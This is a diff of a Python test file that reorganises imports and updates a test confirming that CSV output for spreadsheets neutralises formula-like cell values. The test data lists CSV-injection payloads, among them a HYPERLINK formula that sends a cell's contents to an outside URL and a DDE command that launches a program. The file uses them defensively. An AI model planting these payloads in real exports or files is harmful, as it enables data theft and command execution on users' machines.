@@ -12,7 +12,6 @@ import duckdb
 import pytest
 import xlsxwriter
 
-import xtcredit
 from catalog.errors import UserError
 from catalog.loader import load_catalog, read_model
 from catalog.model import Item
@@ -22,6 +21,7 @@ from transforms.extract.drop import land
 from transforms.trial import try_delivery
 from warehouse.home import Home
 from warehouse.lake import Lake
+from xtcredit.printing import Format, print_rows
 
 KEY = "5a" * 32
 EVIL = ('=HYPERLINK("http://x/?"&A1,"点")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1")
@@ -80,7 +80,7 @@ def test_sql_in_a_header_is_an_unknown_column(tmp_path, header):
 def test_csv_for_spreadsheets_runs_no_formula(value, monkeypatch):
     out = io.StringIO()
     monkeypatch.setattr("sys.stdout", out)
-    xtcredit._print_rows(["a", "b"], [(value, -3)], xtcredit.Format.csv)
+    print_rows(["a", "b"], [(value, -3)], Format.csv)
     row = list(csv.reader(io.StringIO(out.getvalue())))[1]
     assert row == [f"'{value}", "-3"]
 
